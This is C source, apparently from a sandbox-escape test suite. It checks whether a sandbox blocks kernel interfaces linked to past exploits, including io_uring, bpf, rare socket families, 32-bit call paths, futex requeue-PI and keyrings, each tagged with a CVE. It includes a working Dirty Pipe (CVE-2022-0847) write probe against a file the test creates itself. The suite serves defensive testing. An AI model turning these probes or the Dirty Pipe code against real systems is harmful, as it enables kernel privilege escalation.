/* kernel.c - the kernel's surface: calls, socket families and options where most holes of the last
 * years were. What is refused here is refused whether or not this kernel has a hole. */
#include "escape.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/futex.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

enum {
    NR_io_uring_setup = 425,
    NR_io_uring_enter = 426,
    NR_io_uring_register = 427,
    NR_process_madvise = 440,
    NR_memfd_secret = 447,
    NR_futex_requeue = 456,
    NR_lsm_list_modules = 461,
};

static struct outcome uring(const struct attempt *attempt)
{
    uint32_t params[30] = { 0 };

    if (attempt->number == NR_io_uring_setup)
        return by_call(syscall(NR_io_uring_setup, 4L, params), "io_uring_setup");
    return past_check(syscall(attempt->number, -1L, 0L, 0L, 0L, NULL, 0L), attempt->name);
}

/* The head of union bpf_attr for BPF_MAP_CREATE: an array of one int. */
static struct outcome bpf_map(const struct attempt *attempt)
{
    uint32_t attr[32] = { 2, 4, 4, 1 };

    (void) attempt;
    return by_call(syscall(SYS_bpf, 0L, attr, sizeof attr), "bpf map");
}

/* BPF_PROG_LOAD of `r0 = 0; exit` as a socket filter. */
static struct outcome bpf_program(const struct attempt *attempt)
{
    static const uint64_t insns[] = { 0x00000000000000b7, 0x0000000000000095 };
    struct {
        uint32_t type, count;
        uint64_t insns, license;
        uint8_t rest[96];
    } attr = { 1, 2, (uintptr_t) insns, (uintptr_t) "GPL", { 0 } };

    (void) attempt;
    return by_call(syscall(SYS_bpf, 5L, &attr, sizeof attr), "bpf program");
}

static struct outcome perf_event(const struct attempt *attempt)
{
    uint64_t attr[16] = { 1 | 112ull << 32 /* software, size */ };

    (void) attempt;
    return by_call(syscall(SYS_perf_event_open, attr, 0L, -1L, -1L, 0L), "perf_event_open");
}

static struct outcome user_fault(const struct attempt *attempt)
{
    return by_call(syscall(SYS_userfaultfd, attempt->number), "userfaultfd");
}

static struct outcome open_socket(const struct attempt *attempt)
{
    int family = (int) (attempt->number >> 16), type = (int) (attempt->number >> 12 & 15);
    int protocol = (int) (attempt->number & 0xfff);

    return by_call(socket(family, type | SOCK_CLOEXEC, protocol), attempt->name);
}

/* The same with bits in the upper half of the family, which the kernel cuts off. */
static struct outcome open_socket_high(const struct attempt *attempt)
{
    long family = attempt->number >> 16, type = attempt->number >> 12 & 15;

    return by_call(syscall(SYS_socket, 1L << 32 | family, type, attempt->number & 0xfff),
                   attempt->name);
}

static int connected_tcp(void)
{
    struct sockaddr_in addr = { .sin_family = AF_INET };
    socklen_t len = sizeof addr;
    int server = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(server, (struct sockaddr *) &addr, len) < 0 || listen(server, 1) < 0 ||
        getsockname(server, (struct sockaddr *) &addr, &len) < 0 ||
        connect(client, (struct sockaddr *) &addr, len) < 0)
        return -1;
    return client;
}

static struct outcome tcp_ulp(const struct attempt *attempt)
{
    int fd = connected_tcp();

    if (fd < 0)
        return held(errno, "no connection");
    return by_call(syscall(SYS_setsockopt, (long) fd, 6L, attempt->number << 32 | TCP_ULP,
                           attempt->path, (long) strlen(attempt->path)),
                   "TCP_ULP");
}

/* The x86 kernel's second door: 32-bit calls by interrupt, unknown to a 64-bit filter. */
static struct outcome old_interrupt(const struct attempt *attempt)
{
#ifdef __x86_64__
    long rc = attempt->number;

    __asm__ volatile("int $0x80"
                     : "+a"(rc)
                     : "b"(0), "c"(0), "d"(0)
                     : "memory", "r8", "r9", "r10", "r11");
    if (rc >= 0)
        return escaped("a 32-bit call was answered: %ld", rc);
    return held((int) -rc, "int 0x80: %s", strerror((int) -rc));
#else
    (void) attempt;
    return bait.outside ? impossible("x86 only") : held(ENOSYS, "x86 only");
#endif
}

static struct outcome x32_call(const struct attempt *attempt)
{
    return by_call(syscall(0x40000000L | attempt->number), "an x32 number");
}

static struct outcome persona(const struct attempt *attempt)
{
    return by_call(personality((unsigned long) attempt->number), "personality");
}

static struct outcome futex_op(const struct attempt *attempt)
{
    static uint32_t word, other;
    struct timespec soon = { .tv_nsec = 1000 };

    return past_check(syscall(SYS_futex, &word, attempt->number, 7L, &soon, &other, 0L),
                      attempt->name);
}

static struct outcome line_discipline(const struct attempt *attempt)
{
    int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), number = (int) attempt->number;

    if (fd < 0)
        return held(errno, "no terminal");
    return by_call(
        syscall(SYS_ioctl, (long) fd, (attempt->path ? 1L << 32 : 0) | TIOCSETD, &number),
        "TIOCSETD");
}

static struct outcome urgent_data(const struct attempt *attempt)
{
    int pair[2];

    (void) attempt;
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0)
        return held(errno, "no sockets");
    return by_call(send(pair[0], "x", 1, MSG_OOB), "MSG_OOB");
}

static struct outcome segments(const struct attempt *attempt)
{
    static char table[64];

    (void) attempt;
    return by_call(syscall(SYS_modify_ldt, 0L, table, sizeof table), "modify_ldt");
}

/* `return -1`, as a filter of whatever socket. */
static struct outcome socket_filter(const struct attempt *attempt)
{
    struct sock_filter code = { BPF_RET | BPF_K, 0, 0, ~0u };
    struct sock_fprog program = { 1, &code };
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    return by_call(setsockopt(fd, SOL_SOCKET, (int) attempt->number, &program, sizeof program),
                   "filter");
}

static struct outcome udp_tunnel(const struct attempt *attempt)
{
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), kind = (int) attempt->number;

    return by_call(setsockopt(fd, 17, 100 /* UDP_ENCAP */, &kind, sizeof kind), "UDP_ENCAP");
}

static struct outcome pidfd_namespace(const struct attempt *attempt)
{
    int fd = (int) syscall(SYS_pidfd_open, (long) getpid(), 0L);

    return by_call(syscall(SYS_ioctl, (long) fd, attempt->number, 0L), "namespace by pidfd");
}

/* A call that an ordinary program may make on the host. `path` and sizes are harmless. */
static struct outcome plain_call(const struct attempt *attempt)
{
    static char page[4096];
    static struct iovec vec = { page, sizeof page };
    int ends[2];

    switch (attempt->number) {
    case SYS_vmsplice:
        if (pipe2(ends, O_CLOEXEC) < 0)
            return held(errno, "pipe");
        return by_call(syscall(SYS_vmsplice, (long) ends[1], &vec, 1L, 0L), "vmsplice");
    case SYS_fanotify_init:
        return by_call(syscall(SYS_fanotify_init, 0x4L /* CLASS_CONTENT */, 0L), "fanotify_init");
    case SYS_ustat:
        return past_check(syscall(SYS_ustat, 0L, page), "ustat");
    case SYS_add_key:
        return by_call(syscall(SYS_add_key, "user", "cove-escape", "x", 1L, -3L /* session */),
                       "add_key");
    case SYS_keyctl:
        return by_call(syscall(SYS_keyctl, 1L /* JOIN_SESSION */, NULL, 0L, 0L, 0L), "keyctl");
    case SYS_request_key:
        return past_check(syscall(SYS_request_key, "user", "cove-none", NULL, 0L), "request_key");
    case NR_memfd_secret:
        return by_call(syscall(NR_memfd_secret, 0L), "memfd_secret");
    case NR_process_madvise:
        return past_check(syscall(NR_process_madvise, -1L, &vec, 1L, 4L, 0L), "process_madvise");
    default:
        return past_check(syscall(attempt->number, 0L, 0L, 0L, 0L, 0L, 0L), attempt->name);
    }
}

/* CVE-2022-0847: a page of the page cache, spliced into a pipe whose flags are left over, and then
 * written to. The file is our own and read-only. */
static struct outcome dirty_pipe(const struct attempt *attempt)
{
    static char fill[65536];
    char back = 0;
    int ends[2], fd = open("readonly", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    off_t at = 0;

    (void) attempt;
    if (fd < 0 || write(fd, "original", 8) != 8 || fsync(fd) < 0 || pipe2(ends, O_CLOEXEC) < 0)
        return held(errno, "no file");
    (void) close(fd);
    fd = open("readonly", O_RDONLY | O_CLOEXEC);
    for (size_t done = 0; done < 65536;)
        done += (size_t) write(ends[1], fill, sizeof fill - done);
    for (size_t done = 0; done < 65536;)
        done += (size_t) read(ends[0], fill, sizeof fill - done);
    if (splice(fd, &at, ends[1], NULL, 1, 0) != 1 || write(ends[1], "HACKED", 6) != 6)
        return by_call(-1, "splice");
    if (pread(fd, &back, 1, 1) == 1 && back != 'r')
        return escaped("wrote to the page cache of a read-only file");
    return held(0, "the page cache keeps what it had");
}

#define HOST    .outside = ON_HOST
#define WITHOUT .lacking = { ENOSYS, ENOENT }, .reason = "this kernel does not have it"
#define NO_FAMILY                                                                                  \
    .lacking = { EAFNOSUPPORT, EPROTONOSUPPORT, ESOCKTNOSUPPORT },                                 \
    .reason = "this kernel does not have the family"
#define SOCKET(name_, family, type, protocol, why_)                                                \
    {                                                                                              \
        "socket-" name_, why_, open_socket, .number = (family) << 16 | (type) << 12 | (protocol),  \
                                            HOST, NO_FAMILY                                        \
    }
#define CALL(name_, nr, why_)                                                                      \
    {                                                                                              \
        name_, why_, plain_call, .number = (nr), HOST, WITHOUT                                     \
    }

/* clang-format off */
const struct attempt kernel_attempts[] = {
    { "io-uring-setup",   "work done behind the filter; most of the paid kernel exploits", uring, .number = NR_io_uring_setup, HOST, WITHOUT },
    { "io-uring-enter",   "the same", uring, .number = NR_io_uring_enter, HOST, WITHOUT },
    { "io-uring-register","the same", uring, .number = NR_io_uring_register, HOST, WITHOUT },
    { "bpf-map",          "the verifier's surface", bpf_map, HOST, WITHOUT },
    { "bpf-program",      "code in the kernel", bpf_program, HOST, WITHOUT },
    { "perf-event",       "side channels and old holes", perf_event, HOST, WITHOUT },
    { "userfaultfd",      "races made winnable", user_fault, .number = 0, HOST, WITHOUT },
    { "userfaultfd-user", "the unprivileged kind", user_fault, .number = 1, HOST, WITHOUT },
    SOCKET("alg",        38, SOCK_SEQPACKET, 0,  "AF_ALG: CVE-2025-39964"),
    SOCKET("packet",     17, SOCK_RAW,  3,       "AF_PACKET: CVE-2025-38617"),
    SOCKET("packet-dgram", 17, SOCK_DGRAM, 3,    "AF_PACKET"),
    SOCKET("vsock",      40, SOCK_STREAM, 0,     "AF_VSOCK: CVE-2025-21756"),
    SOCKET("xdp",        44, SOCK_RAW,  0,       "AF_XDP"),
    SOCKET("key",        15, SOCK_RAW,  2,       "AF_KEY"),
    SOCKET("llc",        26, SOCK_DGRAM, 0,      "AF_LLC"),
    SOCKET("can",        29, SOCK_RAW,  1,       "AF_CAN"),
    SOCKET("tipc",       30, SOCK_DGRAM, 0,      "AF_TIPC"),
    SOCKET("bluetooth",  31, SOCK_RAW,  1,       "AF_BLUETOOTH"),
    SOCKET("rxrpc",      33, SOCK_DGRAM, 2,      "AF_RXRPC: CVE-2026-43500"),
    SOCKET("rds",        21, SOCK_SEQPACKET, 0,  "AF_RDS"),
    SOCKET("smc",        43, SOCK_STREAM, 0,     "AF_SMC"),
    SOCKET("kcm",        41, SOCK_DGRAM, 0,      "AF_KCM"),
    SOCKET("qipcrtr",    42, SOCK_DGRAM, 0,      "AF_QIPCRTR"),
    SOCKET("x25",         9, SOCK_SEQPACKET, 0,  "AF_X25"),
    SOCKET("netlink-netfilter", 16, SOCK_RAW, 12, "nf_tables: CVE-2024-1086"),
    SOCKET("netlink-xfrm",    16, SOCK_RAW, 6,   "xfrm"),
    SOCKET("netlink-generic", 16, SOCK_RAW, 16,  "generic netlink families"),
    SOCKET("netlink-uevent",  16, SOCK_RAW, 15,  "events of the host's devices"),
    SOCKET("netlink-diag",    16, SOCK_RAW, 4,   "sockets of others"),
    SOCKET("netlink-audit",   16, SOCK_RAW, 9,   "the audit log"),
    SOCKET("netlink-connector", 16, SOCK_DGRAM, 11, "process events"),
    SOCKET("raw-icmp",    2, SOCK_RAW,  1,       "forged packets"),
    SOCKET("raw-any",     2, SOCK_RAW,  255,     "forged packets"),
    SOCKET("raw6",       10, SOCK_RAW,  58,      "forged packets"),
    SOCKET("packet-old",  2, SOCK_PACKET, 3,     "AF_PACKET by its old name"),
    { "socket-packet-high", "a family hidden in upper bits", open_socket_high, .number = 17 << 16 | SOCK_RAW << 12 | 3, HOST, NO_FAMILY },
    { "tcp-ulp-tls",      "kTLS: CVE-2024-26583, CVE-2025-39946", tcp_ulp, .path = "tls", HOST, WITHOUT },
    { "tcp-ulp-tls-high", "the same with upper bits set", tcp_ulp, .path = "tls", .number = 1, HOST, WITHOUT },
    { "tcp-ulp-espintcp", "ESP in TCP: CVE-2026-46300", tcp_ulp, .path = "espintcp", HOST, WITHOUT },
    { "interrupt-80",     "a second set of calls", old_interrupt, .number = 20 /* getpid */, HOST, .lacking = { ENOSYS, EFAULT }, .reason = "this kernel has no 32-bit calls" },
    { "interrupt-80-unshare", "namespaces by the second set", old_interrupt, .number = 310, HOST, .lacking = { ENOSYS, EFAULT }, .reason = "this kernel has no 32-bit calls" },
    { "x32-getpid",       "a third set of calls", x32_call, .number = 39, HOST, .lacking = { ENOSYS }, .reason = "this kernel has no x32" },
    { "personality-exec", "memory that is always executable", persona, .number = 0x0400000, HOST },
    { "personality-compat", "old layouts of memory", persona, .number = 0x0200000, HOST },
    { "personality-32",   "another ABI", persona, .number = 8, HOST },
    { "futex-wait-requeue-pi", "GhostLock: CVE-2026-43499", futex_op, .number = FUTEX_WAIT_REQUEUE_PI, HOST },
    { "futex-cmp-requeue-pi", "GhostLock: CVE-2026-43499", futex_op, .number = FUTEX_CMP_REQUEUE_PI, HOST },
    { "futex-requeue-pi-private", "the same, private", futex_op, .number = FUTEX_CMP_REQUEUE_PI | 128, HOST },
    CALL("futex-requeue", NR_futex_requeue, "the same by a newer call"),
    CALL("vmsplice", SYS_vmsplice, "pages in two places"),
    CALL("fanotify", SYS_fanotify_init, "opens of others held up"),
    CALL("add-key", SYS_add_key, "keyrings: CVE-2016-0728"),
    CALL("keyctl", SYS_keyctl, "keyrings"),
    CALL("request-key", SYS_request_key, "a program run by the kernel as root"),
    CALL("move-pages", SYS_move_pages, "where pages are"),
    CALL("migrate-pages", SYS_migrate_pages, "where pages are"),
    CALL("mbind", SYS_mbind, "memory policy"),
    CALL("set-mempolicy", SYS_set_mempolicy, "memory policy"),
    CALL("process-madvise", NR_process_madvise, "memory of others"),
    CALL("memfd-secret", NR_memfd_secret, "memory that nobody can account for"),
    CALL("lookup-dcookie", SYS_lookup_dcookie, "paths of the host"),
    CALL("ustat", SYS_ustat, "file systems of the host"),
    CALL("lsm-list", NR_lsm_list_modules, "security modules of the host"),
    { "line-discipline",  "n_gsm, n_hdlc and their races", line_discipline, .number = 0, HOST },
    { "line-discipline-high", "the same with upper bits set", line_discipline, .number = 0, .path = "high", HOST },
    { "unix-urgent",      "CVE-2025-38236: memory that is freed already", urgent_data, HOST, .lacking = { EOPNOTSUPP }, .reason = "this kernel has no urgent data for unix sockets" },
    { "modify-ldt",       "segments: CVE-2015-5157", segments, HOST, .lacking = { ENOSYS }, .reason = "this kernel has no modify_ldt" },
    { "socket-filter",    "programs in the kernel", socket_filter, .number = 26, HOST },
    { "udp-tunnel",       "IPsec in UDP", udp_tunnel, .number = 2, HOST, .lacking = { ENOPROTOOPT }, .reason = "this kernel has no IPsec" },
    { "pidfd-namespace",  "namespaces as descriptors", pidfd_namespace, .number = 0xff04, HOST, .lacking = { ENOTTY, EINVAL }, .reason = "before Linux 6.11" },
    { "dirty-pipe",       "CVE-2022-0847: files of everybody", dirty_pipe, .outside = NOT_AT_ALL, .reason = "fixed in Linux 5.16.11" },
};
/* clang-format on */
const size_t kernel_attempt_count = ARRAY_LEN(kernel_attempts);
